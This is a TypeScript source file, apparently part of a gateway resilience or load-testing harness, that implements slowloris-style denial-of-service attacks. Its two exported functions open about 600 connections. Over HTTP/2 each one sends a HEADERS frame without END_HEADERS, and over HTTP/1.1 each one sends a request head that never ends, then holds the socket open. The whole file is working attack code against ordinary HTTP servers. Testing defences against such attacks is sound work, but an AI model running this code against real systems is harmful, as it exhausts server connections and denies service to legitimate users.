// SPDX-License-Identifier: Apache-2.0
// Request heads that never end: HEADERS without END_HEADERS over HTTP/2 (RFC 9113 §6.2), a line without the empty line
// over HTTP/1.1.
import { type AttackOptions, dial, frame, headerBlock, holding, PREFACE, type StartAttack, several } from './attack.ts';

export const halfHeadersOfHttp2: StartAttack = async (
  gateway,
  { connections = 600, path = '/' }: AttackOptions = {},
) => {
  const half = Buffer.concat([PREFACE, frame(0x1, 0, 1, headerBlock('GET', path, 'gateway'))]);
  return holding(
    await several(connections, async () => {
      const socket = await dial(gateway, 'h2');
      socket.on('data', () => undefined);
      socket.write(half);
      return socket;
    }),
  );
};

export const halfHeadersOfHttp1: StartAttack = async (gateway, { connections = 600, path = '/' }: AttackOptions = {}) =>
  holding(
    await several(connections, async () => {
      const socket = await dial(gateway, 'http/1.1');
      socket.on('data', () => undefined);
      socket.write(`GET ${path} HTTP/1.1\r\nHost: gateway\r\nX-Slow: `);
      return socket;
    }),
  );
